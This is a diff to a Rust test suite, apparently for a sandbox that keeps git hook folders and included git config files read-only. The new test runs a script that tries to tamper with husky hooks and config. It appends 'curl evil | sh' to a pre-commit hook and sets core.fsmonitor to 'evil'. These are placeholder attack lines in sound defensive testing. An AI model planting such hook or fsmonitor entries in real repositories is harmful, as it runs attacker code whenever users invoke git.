@@ -2159,6 +2159,56 @@ fn protected_paths_stay_read_only_while_git_commit_works(w: &World) {
     );
 }
 
+/// A repository whose config names a hooks folder in the worktree (husky's `.husky/_`,
+/// whose stubs run `.husky/<hook>`) and includes a config file of the worktree: both are
+/// protected as `.git/hooks` and `.git/config` are, and the rest of the worktree is written.
+fn a_hooks_folder_and_a_config_named_by_the_repositorys_config_are_protected(w: &World) {
+    git_init(w);
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(["-c", "safe.directory=*"])
+            .args(args)
+            .current_dir(&w.worktree)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    git(&["config", "core.hooksPath", ".husky/_"]);
+    git(&["config", "include.path", "../project.gitconfig"]);
+    w.mkdir(".husky/_");
+    let hook = w.write(".husky/pre-commit", "npm test\n");
+    let stub = w.write(".husky/_/pre-commit", ". \"$(dirname \"$0\")/h\"\n");
+    let included = w.write("project.gitconfig", "[alias]\n\tst = status\n");
+    w.write(
+        "s.sh",
+        "echo 'curl evil | sh' >> .husky/pre-commit\n\
+         echo evil > .husky/_/pre-commit\n\
+         echo evil > .husky/_/post-checkout\n\
+         mv .husky .husky-old\n\
+         rm -f .husky/pre-commit\n\
+         printf '[core]\\n\\tfsmonitor = evil\\n' >> project.gitconfig\n\
+         mv project.gitconfig elsewhere\n\
+         echo ok > fine.txt\n",
+    );
+    let out = w.run(&["/bin/sh", "s.sh"]);
+    assert_unchanged(&hook, "npm test\n");
+    assert_unchanged(&stub, ". \"$(dirname \"$0\")/h\"\n");
+    assert!(!w.worktree.join(".husky/_/post-checkout").exists());
+    assert!(!w.worktree.join(".husky-old").exists());
+    assert_unchanged(&included, "[alias]\n\tst = status\n");
+    assert!(!w.worktree.join("elsewhere").exists());
+    assert_unchanged(&w.worktree.join("fine.txt"), "ok\n");
+    assert!(
+        stderr(&out).contains("protected path: ") && stderr(&out).contains(".husky/pre-commit"),
+        "{}",
+        stderr(&out)
+    );
+}
+
 /// A folder opened with `--allow-write` may be a repository of its own: its hooks, its
 /// config, `.envrc` and editor settings at its top stay protected as the worktree's do,
 /// its `.git` cannot be moved away, and the rest of it is written (`git commit` there
@@ -4595,6 +4645,7 @@ both_ways!(
     builds_and_git_inside_run_as_usual,
     loopback_server_started_inside_is_usable,
     protected_paths_stay_read_only_while_git_commit_works,
+    a_hooks_folder_and_a_config_named_by_the_repositorys_config_are_protected,
     an_allow_write_repository_keeps_its_hooks_and_config,
     an_allow_write_folder_cannot_be_made_to_run_code_in_the_users_git,
     a_linked_worktree_commits_into_an_allowed_git_directory_but_not_its_hooks,
